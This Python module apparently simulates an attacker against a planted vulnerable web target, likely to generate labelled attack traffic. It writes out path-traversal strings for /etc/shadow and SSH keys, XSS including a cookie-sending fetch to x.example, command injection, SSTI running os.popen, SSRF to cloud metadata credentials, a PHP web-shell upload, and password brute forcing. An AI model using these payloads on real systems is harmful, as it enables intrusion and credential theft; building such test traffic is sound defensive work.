"""Attacks on files, commands, templates, other servers, browsers, uploads and passwords."""
import urllib.parse

from .client import SUCCEEDED

FILES = ("/etc/passwd", "/etc/hosts", "/etc/hostname", "/etc/shadow", "/proc/self/environ", "/var/log/auth.log",
         "/etc/nginx/nginx.conf", "/srv/app/config.py", "/windows/win.ini", "/root/.ssh/id_rsa", "/etc/mysql/my.cnf")
CLIMBS = {"plain": "../", "encoded": "%2e%2e%2f", "half": "..%2f", "double": "%252e%252e%252f", "nested": "....//",
          "backslash": "..%5c", "overlong": "%c0%ae%c0%ae%c0%af"}
SENSITIVE = ("/.env", "/.git/config", "/.git/HEAD", "/backup.sql", "/.aws/credentials", "/wp-config.php.bak",
             "/.svn/entries", "/.htpasswd", "/server-status", "/phpinfo.php", "/.ssh/id_rsa", "/config.php~",
             "/dump.sql", "/.DS_Store", "/id_rsa")


def quoted(text):
    return urllib.parse.quote(text, safe="")


def traversal(attacker, target):
    page, rng, mark = target.pages["file"], attacker.rng, target.secrets["file"]
    hole = f"{page.path} file"
    climb = rng.choice(list(CLIMBS))
    files = rng.sample(FILES, rng.randint(1, len(FILES)))
    right = {"strip": ("nested",), "twice": ("double", "plain", "encoded", "half"), "backslash": (
        "backslash", "plain", "encoded", "half")}.get(page.filter, ("plain", "encoded", "half"))
    if rng.random() < 0.6:
        climb = rng.choice(right)
    if rng.random() < 0.15:
        climb = "absolute"
    depths = range(1, rng.randint(4, 9))
    found = False

    def asked(depth, path):
        # A file may be ordinary: what counts is that the mark of files outside came back.
        text = quoted(path) if climb == "absolute" else CLIMBS[climb] * depth + path[1:].replace(
            "/", "%5c" if climb == "backslash" else "/" if climb == "plain" else "%2f")
        nul = "%00.png" if rng.random() < 0.1 else ""
        reply, label = attacker.attack("traversal", hole, f"{page.path}?file={text}{nul}",
                                       check=lambda reply: mark in reply.body)
        return label.label == SUCCEEDED
    good = depths[-1]
    for depth in depths:
        if asked(depth, files[0] if files[0] != "/etc/shadow" else "/etc/passwd"):
            found, good = True, depth
            break
    for path in files if found or rng.random() < 0.6 else files[:2]:
        asked(good, path)


def path_traversal(attacker, target):
    """In the path itself: nginx's own answers, and the leaky alias."""
    rng, mark = attacker.rng, target.secrets["file"]
    for text in rng.sample(("/files../conf/settings.ini", "/files..%2fconf/settings.ini", "/../../../../etc/passwd",
                            "/files/../../conf/settings.ini", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
                            "/files/..%2f..%2f..%2fetc%2fpasswd", "/static/..%252f..%252fetc/passwd"), 5):
        attacker.attack("traversal-path", text.split("..")[0].rstrip("/").split("/.%2e")[0] + "/ ", text,
                        check=lambda reply: mark in reply.body)


def sensitive(attacker, target):
    mark = target.secrets["file"]
    for path in attacker.rng.sample(SENSITIVE, attacker.rng.randint(4, len(SENSITIVE))):
        attacker.attack("sensitive-file", path + " ", path, check=lambda reply: mark in reply.body)


def scripts(attacker, target):
    """Cross-site scripting, reflected: whether the answer repeats it unescaped."""
    kind, parameter = attacker.rng.choice((("search", "q"), ("greet", "name"), ("ping", "host")))
    path = target.pages[kind].path
    for text in attacker.rng.sample(("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                                     "\"><svg onload=alert(2)>", "javascript:alert(1)",
                                     "<body onload=fetch('//x.example/'+document.cookie)>"), 3):
        attacker.attack("xss-reflected", f"{path} {parameter}", f"{path}?{parameter}={quoted(text)}",
                        check=lambda reply, text=text: text in reply.body)


def stored_scripts(attacker, _target):
    text = f"<script>fetch('//x.example/{attacker.rng.randint(1, 999)}')</script>"
    _, label = attacker.attack("xss-stored", "/comments text", "/comments", method="POST", form={"text": text})
    if text in attacker.ask("/comments").body:
        label.label = SUCCEEDED


def commands(attacker, target):
    page, rng = target.pages["ping"], attacker.rng
    hole = f"{page.path} host"
    how = {"check": lambda reply: target.secrets["command"] in reply.body or target.secrets["file"] in reply.body,
           "ran": lambda reply: page.vulnerable}
    opening = rng.choice((";", "|", "&&", "\n", "||", "$("))
    closing = ")" if opening == "$(" else ""
    for _ in range(rng.randint(3, 10)):
        command = rng.choice(("id", "whoami", "cat /etc/passwd", "cat${IFS}/etc/passwd", "ls -la /", "uname -a",
                              "cat /srv/app/config.py"))
        attacker.attack("cmdi", hole, f"{page.path}?host=127.0.0.1{quoted(opening + command + closing)}", **how)


def timed_commands(attacker, target):
    page, rng = target.pages["ping"], attacker.rng
    form = rng.choice((";sleep {}", "|sleep {}", "$(sleep {})", "&ping -n {} 127.0.0.1", "`sleep {}`"))
    for seconds in rng.sample((2, 3, 2, 1, 2), rng.randint(2, 5)):
        attacker.attack("cmdi-time", f"{page.path} host", f"{page.path}?host=127.0.0.1{quoted(form.format(seconds))}",
                        check=lambda reply: reply.truth.get("slept", 0) >= 0.5,
                        ran=lambda reply: page.vulnerable)


def templates(attacker, target):
    page, rng = target.pages["greet"], attacker.rng
    for _ in range(rng.randint(2, 8)):
        a, b = rng.randint(1000, 9999), rng.randint(1000, 9999)
        text, wanted = rng.choice((
            (f"{{{{{a}*{b}}}}}", str(a * b)), (f"${{{a}*{b}}}", str(a * b)),
            ("{{config.items()}}", target.secrets["command"]),
            ("{{''.__class__.__mro__[1].__subclasses__()}}", target.secrets["command"]),
            ("{{cycler.__init__.__globals__.os.popen('id').read()}}", target.secrets["command"])))
        attacker.attack("ssti", f"{page.path} name", f"{page.path}?name={quoted(text)}",
                        check=lambda reply, wanted=wanted: wanted in reply.body)


def other_servers(attacker, target):
    page, rng = target.pages["fetch"], attacker.rng
    for _ in range(rng.randint(3, 9)):
        where = rng.choice(("http://127.0.0.1/", "http://localhost:8080/admin",
                            "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[::1]/admin",
                            "http://0x7f000001/status", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO"))
        attacker.attack("ssrf", f"{page.path} url", f"{page.path}?url={quoted(where)}",
                        check=lambda reply: target.secrets["inner"] in reply.body,
                        ran=lambda reply: reply.truth.get("called", 0) > 0)


def uploads(attacker, target):
    """A script goes up, and is called."""
    path, rng = target.pages["upload"].path, attacker.rng
    name = f"pic{rng.randint(100, 999)}.{rng.choice(('php', 'phtml', 'jsp', 'php.png'))}"
    attacker.attack("upload", f"{path} name", path, method="POST", form={"name": name, "data": "<?php"})
    for command in rng.sample(("id", "cat /etc/passwd", "ls", "uname -a", "whoami"), rng.randint(1, 5)):
        attacker.attack("upload-call", f"/uploads/{name} cmd", f"/uploads/{name}?cmd={quoted(command)}",
                        check=lambda reply: any(target.secrets[key] in reply.body for key in ("command", "file")))


def passwords(attacker, target):
    """Many passwords for one user, or one for many; in some the right one comes."""
    page, rng = target.pages["login"], attacker.rng
    knows = rng.random() < 0.5
    tries = rng.randint(12, 45)
    for n in range(tries):
        right = knows and n == tries - 1
        form = {"user": "admin", "pass": target.secrets["password"] if right else f"guess{n}"}
        reply, label = attacker.attack("bruteforce", f"{page.path} -", page.path, method="POST", form=form,
                                       check=lambda reply: "session=" in reply.cookie)
        label.visible = True  # the tries can be seen, though not what they were
        if label.label == SUCCEEDED:
            attacker.ask("/account")
